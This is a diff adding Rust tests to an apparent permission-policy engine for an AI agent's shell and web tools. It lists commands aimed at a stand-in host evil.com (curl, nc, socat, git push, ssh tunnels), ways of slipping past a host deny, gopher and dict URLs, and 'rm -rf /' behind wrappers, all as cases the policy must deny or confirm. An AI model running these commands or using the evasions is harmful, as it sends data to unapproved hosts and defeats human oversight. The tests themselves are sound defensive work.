@@ -229,3 +229,102 @@ fn a_deny_of_a_path_sees_versions_and_searches() {
     let policy = "allow = [\"Bash(git:*)\"]\ndeny = [\"Read(**/.env)\"]";
     is(policy, "Bash", &commands(&[("git log -- 'src/*.rs'", AllowAudited), ("git log -- 'src/*'", Confirm)]));
 }
+
+/// A deny of a host sees it wherever a program that may talk to others names it.
+#[test]
+fn a_deny_of_a_host_sees_every_program_that_may_contact_it() {
+    let policy = "allow = [\"Bash(*)\"]\ndeny = [\"WebFetch(domain:evil.com)\"]";
+    let denied = [
+        "curl evil.com",
+        "wget https://evil.com/x",
+        "nc evil.com 80",
+        "sftp evil.com",
+        "dig @evil.com x",
+        "nmap evil.com",
+    ];
+    is(policy, "Bash", &commands(&denied.map(|command| (command, Deny))));
+    let asked = [
+        "git clone git@evil.com:x",
+        "git push evil.com:x",
+        "git remote set-url --push origin git@evil.com:x",
+        "git -c http.proxy=evil.com fetch",
+        "socat - TCP:evil.com:80",
+        "docker pull evil.com/x",
+        "go get evil.com/x",
+        "ssh -L 80:evil.com:80 a",
+        "curl --resolve a:443:evil.com https://a",
+        "mongodump --host evil.com",
+        "curl $URL",
+        "curl https://evil.$TLD",
+    ];
+    let confirmed = asked.map(|command| {
+        (command, if command.starts_with("git clone") || command.starts_with("git push") { Deny } else { Confirm })
+    });
+    is(policy, "Bash", &commands(&confirmed));
+    let runs = [
+        "grep evil.com log",
+        "echo evil.com",
+        "cat evil.com.txt",
+        "curl https://good.com",
+        "git clone git@good.com:x",
+        "curl notevil.com",
+    ];
+    is(policy, "Bash", &commands(&runs.map(|command| (command, AllowAudited))));
+    // Every host.
+    let all = "allow = [\"Bash(curl:*)\"]\ndeny = [\"WebFetch(domain:*)\"]";
+    is(all, "Bash", &commands(&[("curl https://a.com", Deny), ("curl --version", AllowAudited)]));
+}
+
+/// An allow of a host is one of the web.
+#[test]
+fn an_allow_of_a_host_covers_no_other_scheme() {
+    let policy = "allow = [\"WebFetch(domain:example.com)\"]";
+    let cases = [
+        ("https://example.com/x", AllowAudited),
+        ("HTTP://example.com/x", AllowAudited),
+        ("example.com/x", AllowAudited),
+        ("gopher://example.com:25/x", Confirm),
+        ("dict://example.com:11211/", Confirm),
+        ("ssh://example.com", Confirm),
+        ("ftp://example.com", Confirm),
+    ];
+    is(policy, "WebFetch", &cases.map(|(url, decision)| (json!({ "url": url }), decision)));
+}
+
+/// A switch of a shell tool that nobody declared may change what the command does.
+#[test]
+fn a_switch_of_a_shell_that_nobody_declared_asks() {
+    let policy = "allow = [\"Bash(ls:*)\"]";
+    let call = |name: &str, value: Value| json!({ "command": "ls", name: value });
+    is(
+        policy,
+        "Bash",
+        &[
+            (call("run_in_background", json!(true)), AllowAudited),
+            (call("timeout", json!(5)), AllowAudited),
+            (call("sudo", json!(false)), AllowAudited),
+            (call("sudo", json!(true)), Confirm),
+            (call("dangerouslyDisableSandbox", json!(true)), Confirm),
+        ],
+    );
+}
+
+/// A rule over a command and a host or a path allows no command, behind a wrapper either.
+#[test]
+fn a_rule_over_a_command_and_a_place_allows_neither_behind_a_wrapper() {
+    for place in ["host = \"a.com\"", "path = \"src/**\""] {
+        for wrapper in ["nice", "env", "timeout 5"] {
+            let rule = format!("[[rule]]\ndecide = \"allow\"\ntool = \"Bash\"\ncommand = \"{wrapper} rm:*\"\n{place}");
+            is(&rule, "Bash", &commands(&[(&*format!("{wrapper} rm -rf /"), Confirm)]));
+        }
+    }
+}
+
+/// The person's own commands are denied in every mode.
+#[test]
+fn the_floor_holds_where_the_policy_is_off() {
+    for mode in ["off", "audit", "enforce"] {
+        let policy = format!("allow = [\"Bash(*)\"]\n[policy]\nmode = \"{mode}\"");
+        is(&policy, "Bash", &commands(&[("toolfold approvals approve ap-1", Deny), ("toolfold undo un-1", Deny)]));
+    }
+}
